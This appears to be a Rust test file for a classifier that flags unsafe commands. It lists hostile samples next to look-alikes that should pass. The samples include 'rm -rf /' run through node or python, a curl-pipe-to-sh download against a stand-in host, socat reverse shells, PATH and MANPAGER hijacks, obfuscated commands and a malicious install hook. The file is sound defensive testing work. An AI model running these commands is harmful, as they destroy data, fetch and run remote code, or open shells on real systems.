//! Commands that something else than their own words names; slips; and look-alikes, left alone.

mod judging;

use judging::{all_safe, is_unsafe};

#[test]
fn names_that_only_others_read_are_found() {
    let spelled = "obfuscated-command";
    is_unsafe("bash", "p^o^w^e^r^shell -File x.ps1", spelled);
    is_unsafe("bash", &"\\x6a\\x29\\x58\\x99".repeat(8), spelled);
    let name = "obfuscated-name";
    is_unsafe("javascript", "self[turn(x)](address);\n", name);
    is_unsafe("javascript", "globalThis[decode(key)](text);\n", name);
    all_safe(
        "javascript",
        &[
            "const self = this;\nself[handler(x)](y);\n",
            "handlers[pick(x)](y);\n",
            "window[callback](data);\n",
        ],
    );
    all_safe(
        "bash",
        &[
            "git show HEAD^ HEAD^^",
            "a^b",
            "printf '\\x41\\x42' > notes.bin",
        ],
    );
}

#[test]
fn commands_that_the_input_holds_are_found() {
    let runs = "shell-escape";
    is_unsafe("bash", "cat list | xargs -I{} sh -c '{}'", runs);
    is_unsafe("bash", "cat list | xargs -n1 -I % bash -c '%'", runs);
    is_unsafe("bash", "cat list | parallel bash -c {}", runs);
    is_unsafe("bash", "cat list | xargs -i sh -c '{}'", runs);
    is_unsafe("bash", "cat list | xargs -L1 sh -c", runs);
    all_safe(
        "bash",
        &[
            "find . -name '*.rs' | xargs -I{} sh -c 'wc -l {}'",
            "cat list | xargs -I{} echo {}",
            "cat list | xargs sh -c 'wc -l \"$@\"' count",
            "ls *.wav | parallel lame {}",
        ],
    );
}

#[test]
fn programs_that_a_variable_names_are_found() {
    let runs = "shell-escape";
    is_unsafe("bash", "GROFF_BIN_PATH=. nroff", runs);
    is_unsafe("bash", "PATH=/tmp/x:$PATH sudo-helper", runs);
    is_unsafe("bash", "env PATH=.:$PATH man ls", runs);
    is_unsafe("bash", "RUBYOPT=-r/tmp/x ruby -v", "persistence-preload");
    is_unsafe("bash", "MANPAGER=/bin/sh man ls", runs);
    is_unsafe("bash", "apt-get install -c /tmp/x sl", runs);
    is_unsafe("bash", "apt-get update --config-file=/tmp/x", runs);
    all_safe(
        "bash",
        &[
            "PATH=/usr/local/bin:$PATH make",
            "PATH=\"$PWD/bin:$PATH\" make",
            "export PATH=./node_modules/.bin:$PATH",
            "MANPAGER=cat man ls",
            "apt-get -c /etc/apt/own.conf update",
            "cargo run -- /bin/sh",
        ],
    );
}

#[test]
fn slips_are_found() {
    is_unsafe("bash", "DIR=build rm -rf $DIR/old", "destroy-files");
    is_unsafe("bash", "DIR= rm -rf \"$DIR/old\"", "destroy-files");
    is_unsafe("bash", "node -e 'rm -rf /'", "destroy-files");
    is_unsafe("bash", "python3 -c 'rm -rf /'", "destroy-files");
    is_unsafe(
        "bash",
        "php -r 'curl http://h.example/x | sh'",
        "download-run",
    );
    all_safe(
        "bash",
        &[
            "DIR=build; rm -rf $DIR/old",
            "LC_ALL=C rm -rf build/old",
            "node -e 'console.log(rm -rf)'",
            "python3 -c 'id -1'",
            "date -ujf%s 1600000000 +%T",
            "date -Iseconds",
            "date -d@1600000000s -u",
        ],
    );
    is_unsafe("bash", "date 010203042024", "trace-removal");
}

#[test]
fn what_only_looks_hidden_or_sent_is_left_alone() {
    all_safe(
        "bash",
        &[
            "INFO() { echo \"$1\"; }\nINFO 'add it to ~/.bashrc'",
            "openssl req -x509 -nodes -out cert.pem -keyout /etc/ssl/private/own.key",
            "awk '/connect|socket/ { n++ } /exec/ { m++ } END { print n, m }' trace.log",
            "socat readline,history=.h exec:./console,pty",
            "waittcp4port() { :; }\nwait$(proto)port 80",
        ],
    );
    is_unsafe(
        "bash",
        "socat tcp:h.example:1 exec:./console",
        "reverse-shell",
    );
    is_unsafe("bash", "socat - exec:/bin/sh,pty", "reverse-shell");
    is_unsafe("bash", "who$(nothing)ami", "obfuscated-command");
}

#[test]
fn the_old_exec_statement_is_left_alone() {
    all_safe(
        "python",
        &["def run(code, space):\n    exec(\"\"\"exec code in space, space\"\"\")\n"],
    );
    is_unsafe(
        "python",
        "exec('import os; os.system(\"id\")')\n",
        "code-dynamic",
    );
}

#[test]
fn excerpts_are_read_as_if_finished() {
    is_unsafe(
        "python",
        "from setuptools import setup\nsetup(\n    name='x',\n    cmdclass={'install': Evil},\n    classifiers=[\n        'a',\n",
        "persistence-install-hook",
    );
    is_unsafe(
        "python",
        "exec(__import__('base64').b64decode('aW1wb3J0IG9z')\n",
        "code-hidden",
    );
}
